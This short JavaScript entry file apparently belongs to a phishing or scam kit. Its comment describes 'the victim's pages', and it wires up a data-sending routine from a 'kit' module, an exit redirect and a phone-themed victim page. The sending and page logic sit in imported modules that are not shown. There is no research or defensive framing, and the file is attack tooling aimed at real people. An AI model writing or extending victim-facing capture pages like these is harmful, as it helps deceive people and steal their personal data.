// The victim's pages. On the first there is only a button; all the rest is one page that never reloads by itself.
import { startSendingOnce } from "#kit/sending";

import { startExit } from "./exit";
import { PhonePage } from "./page";
import { readPageData } from "./state";

startSendingOnce();
const data = readPageData();
startExit(data?.urls.leave ?? "/p/leave");
if (data) new PhonePage(data).start();
